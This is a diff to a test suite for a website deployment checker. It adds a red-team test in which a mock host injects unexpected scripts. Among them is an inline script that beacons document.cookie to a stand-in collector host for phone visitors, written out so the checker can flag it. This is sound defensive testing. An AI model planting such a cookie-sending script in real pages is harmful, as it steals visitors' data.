@@ -215,8 +215,8 @@ describe('npm run check:deployment on a healthy deployment', () => {
     // retention; the test lead; the e-mails' unsubscribe link and their facts; the e-mail worker instances' settings; a photo for an unknown request; the test
     // photo and its files; the functions' grant; the removal; the throttle; the site's and the processor's commits; signed-in
     // users' access and the throttle's pre-request; the project's keys; who handles the photos; whether visitors reach the services; the pages' own address; storage policies; the checkout's age;
-    // visitors' inserts.
-    expect(checks).toHaveLength(DEPLOYED_PAGES.length + 1 + 1 + 2 + 2 + 4 + 1 + 1 + LEAD_TABLES.length + 2 + 2 + 3 + 3 + 1 + 1 + 2 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 2 + 1 + 1 + 1 + 1 + 1 + 1 + 1);
+    // visitors' inserts; the code the pages run, on a phone and on a second visit.
+    expect(checks).toHaveLength(DEPLOYED_PAGES.length + 1 + 1 + 2 + 2 + 4 + 1 + 1 + LEAD_TABLES.length + 2 + 2 + 3 + 3 + 1 + 1 + 2 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 2 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1);
     // The stack's processor draws the floors itself, and the site is built without an engine company.
     expect(lines).toContain("ok    privacy page names who handles visitors' photos: the processor draws the floors itself, and the privacy page says so (no other company gets the photos)");
     expect(lines).toContain("ok    project's keys are its own: the local stack's published keys, on this machine's own address, which no one else reaches");
@@ -266,6 +266,7 @@ describe('npm run check:deployment on a healthy deployment', () => {
     for (const page of DEPLOYED_PAGES) {
       expect(lines.some((line) => new RegExp(`^ok {4}page ${page}: 200, prerendered ".+", its \\d+ scripts and stylesheets served$`).test(line)), page).toBe(true);
     }
+    expect(lines).toContain(`ok    pages run only the build's scripts, on a phone and on a second visit too: the ${DEPLOYED_PAGES.length} pages run only scripts the pages in ${site.buildDir}/ have, and phones get the same pages (no page set a cookie, so a second visit is a first)`);
     expect(lines.some((line) => /^ok {4}site built for this deployment: its \d+ scripts use this project's URL, public key and webhook$/.test(line))).toBe(true);
     expect(lines.some((line) => /^ok {4}site publishes no secret key: none in its 6 pages, \d+ scripts, [1-9]\d* source maps and [1-9]\d* other files$/.test(line))).toBe(true);
     expect(lines).toContain(`ok    webhook CORS for the site: 204, allows ${new URL(httpsSite.url).origin} and the page's headers`);
@@ -286,13 +287,14 @@ describe('npm run check:deployment on a healthy deployment', () => {
     expect(failed, lines.join('\n')).toEqual([]);
     expect(lines.filter((line) => line.startsWith('skip'))).toEqual([
       `skip  site is the build in ${noBuild}: ${path.join(noBuild, 'index.html')} is not there, so which build the host serves is not known; run the check where the uploaded build is, or name it with --build-dir`,
+      `skip  pages run only the build's scripts, on a phone and on a second visit too: phones get the same pages (no page set a cookie, so a second visit is a first), but without the build in ${noBuild}/ the scripts the pages should run are not known (a host may add its own); run the check where the uploaded build is, or name it with --build-dir`,
       `skip  site served over https with HSTS: ${new URL(site.siteUrl).origin} is this machine (a local preview): https is asked of the deployed site's address`,
       `skip  pages send a content security policy: none sent: another site may show these pages in a frame of its own (clickjacking on the forms); send decision 033's header (README, "Site"): Content-Security-Policy: ${RECOMMENDED_CSP}`,
       expect.stringMatching(/^skip {2}throttle tells two clients apart: could not send from two addresses here; pass --client-addresses \(/),
     ]);
     // Named again at the end, first of all as not checked, and not a pass by its exit code either (not 3: `$? -ne 1`).
     expect(lines.at(-1)).toBe(
-      `NOT CHECKED: 4 of ${lines.filter((line) => /^(ok {3}|FAIL|skip) /.test(line)).length} checks could not run from here (site is the build in ${noBuild}; site served over https with HSTS; pages send a content security policy; throttle tells two clients apart), so the deployment is not known to work; none of the others failed.`,
+      `NOT CHECKED: 5 of ${lines.filter((line) => /^(ok {3}|FAIL|skip) /.test(line)).length} checks could not run from here (site is the build in ${noBuild}; pages run only the build's scripts, on a phone and on a second visit too; site served over https with HSTS; pages send a content security policy; throttle tells two clients apart), so the deployment is not known to work; none of the others failed.`,
     );
     expect(code).toBe(1);
   }, 300_000);
@@ -469,6 +471,40 @@ describe('npm run check:deployment on a broken deployment', () => {
         expect.stringMatching(/^FAIL {2}page \/terms: 200, ".+", but it is served as "text\/plain; charset=utf-8", not text\/html: browsers show the page's HTML source instead of the page; /),
         expect.stringMatching(/^FAIL {2}site hands out no file of the build machine: it serves \/\.env \(\d+ bytes, holding the secret key SUPABASE_SERVICE_ROLE_KEY/),
         'FAIL  unknown path: status 200, expected 404 (a single-page-app fallback answers every path with 200)',
+      ]);
+    } finally {
+      await host.close();
+    }
+    expect(await leftovers(site.stack)).toEqual([]);
+  }, 300_000);
+
+  it("fails a page that runs a script the build does not have, and pages that phones or returning visitors get otherwise than the check's first request (red-team, session 23)", async () => {
+    const host = await startHost(site.siteUrl, otherHostPort, async (asked, upstream) => {
+      const page = await upstream();
+      // A tag manager pasted into the host's snippet injection, on one page for everyone.
+      if (asked.path === '/realtors') return { ...page, body: page.body.replace('</head>', '<script async src="https://www.googletagmanager.com/gtm.js?id=GTM-TEST1"></script></head>') };
+      // A collector given to phones only.
+      if (asked.path === '/investors' && /Mobile/.test(String(asked.headers['user-agent']))) {
+        return { ...page, body: page.body.replace('</body>', "<script>navigator.sendBeacon('https://collector.test/', document.cookie)</script></body>") };
+      }
+      // An earlier build given to whoever comes back with the cookie the first answer set.
+      if (asked.path === '/') {
+        const returning = String(asked.headers.cookie ?? '').includes('seen=1');
+        return {
+          ...page,
+          headers: { ...page.headers, 'set-cookie': 'seen=1; Path=/; HttpOnly' },
+          body: returning ? page.body.replace(/data-entry="[^"]*"/g, 'data-entry="/assets/index-0ldBu1ld.js"') : page.body,
+        };
+      }
+      return page;
+    });
+    try {
+      const { failed, lines } = await checkDeployment(envFor(site.stack), undefined, host.url);
+
+      expect(failed, lines.join('\n')).toEqual([
+        expect.stringMatching(
+          /^FAIL {2}pages run only the build's scripts, on a phone and on a second visit too: \/ on a second visit \(with the cookies the pages set\): \/assets\/index-0ldBu1ld\.js where the first answer names \/assets\/index-\S+\.js \(another build\); \/realtors runs the script https:\/\/www\.googletagmanager\.com\/gtm\.js\?id=GTM-TEST1, which the build does not have; \/investors on a phone: an inline script "navigator\.sendBeacon\('https:\/\/collector\.test\/', document\.coo…", which the first answer does not run: a script the build does not have reads every form/,
+        ),
       ]);
     } finally {
       await host.close();
